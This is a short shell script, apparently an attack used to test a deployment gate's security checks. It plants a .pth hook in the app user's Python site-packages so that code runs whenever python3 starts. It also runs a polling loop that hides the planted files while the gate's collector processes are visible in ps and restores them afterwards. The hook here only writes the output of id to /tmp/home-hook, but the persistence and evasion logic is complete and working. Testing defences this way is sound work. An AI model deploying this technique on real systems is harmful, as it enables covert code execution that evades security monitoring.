#!/bin/sh
# The deploy login's persistence (sent by atk_orphan.sh): a daemon (double-forked: its parent becomes pid 1) that keeps
# a .pth in the app user's home (Python's user site of every system python3 the app user starts: attack12's finding 3)
# and moves it out of the tree while a gate's collectors run (they show in ps), back when they are gone.
H=/var/www/yourapplication; S=$H/.local; P=lib/python3.11/site-packages; KEEP=$HOME/.cache/.k
mkdir -p $KEEP/$P && echo 'import os; os.system("echo pth: $(id) >> /tmp/home-hook")' > $KEEP/$P/zz.pth
while :; do
  if ps -eo args | grep -q '[d]eploytests-collect'; then
    [ -d $S ] && rm -rf $S
  else
    [ -d $S ] || cp -r $KEEP $S
  fi
  sleep 0.05
done
